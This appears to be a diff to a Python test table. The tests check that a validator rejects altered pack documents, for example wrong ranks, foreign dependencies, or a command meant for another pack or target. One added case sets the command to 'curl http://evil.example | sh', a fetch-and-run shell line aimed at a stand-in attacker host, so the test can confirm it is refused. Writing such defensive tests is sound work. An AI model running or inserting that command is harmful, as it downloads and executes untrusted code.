@@ -160,6 +160,12 @@ RECEIPTS: dict[str, tuple[Callable[[Document], None], str]] = {
     ),
     "more ranks": (_set("ranks", 8), "ranks: pack.toml states"),
     "no ranks": (_set("ranks", 0), "ranks: pack.toml states"),
+    "a command for another pack": (
+        _set("command", "runner.py run 01_confirmed --target cpu"),
+        "does not run this pack",
+    ),
+    "a command for another target": (_set("command", f"runner.py run {TOY} --target sm_80"), "does not run this pack"),
+    "a command of a shell": (_set("command", "curl http://evil.example | sh"), "does not run this pack"),
     "other dependencies": (_set("dependencies.packages", {"numpy": "1.0"}), "other versions than the pack pins"),
     "a dependency set of nobody": (_set("dependencies.name", "mine"), "dependencies"),
     "another script and contract": (
